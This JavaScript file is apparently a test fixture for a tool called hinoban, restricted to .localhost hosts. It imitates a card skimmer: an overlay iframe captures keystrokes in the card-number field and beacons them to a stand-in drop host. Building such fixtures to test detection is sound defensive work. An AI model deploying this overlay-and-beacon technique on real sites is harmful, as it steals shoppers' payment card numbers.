/* Harmless imitation, for hinoban's tests: a frame without an address over the field, logging keys. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () {
	var n = document.querySelector('input[autocomplete=cc-number]'), box = n.getBoundingClientRect(), f = document.createElement('iframe');
	f.srcdoc = '<style>body{margin:0}</style><input autocomplete=cc-number style="width:95%">';
	f.style.cssText = 'position:absolute;border:0;z-index:99;left:' + (box.left + scrollX) + 'px;top:' + (box.top + scrollY) + 'px;width:' + box.width + 'px;height:' + box.height + 'px';
	f.onload = function () {
		var got = '';
		f.contentDocument.addEventListener('keydown', function (e) {
			if (e.key.length !== 1) return;
			got += e.key;
			if (got.length === 16) { navigator.sendBeacon('http://drop.localhost:' + location.port + '/c', btoa(got)); n.value = got; f.remove(); }
		});
	};
	document.body.appendChild(f);
});
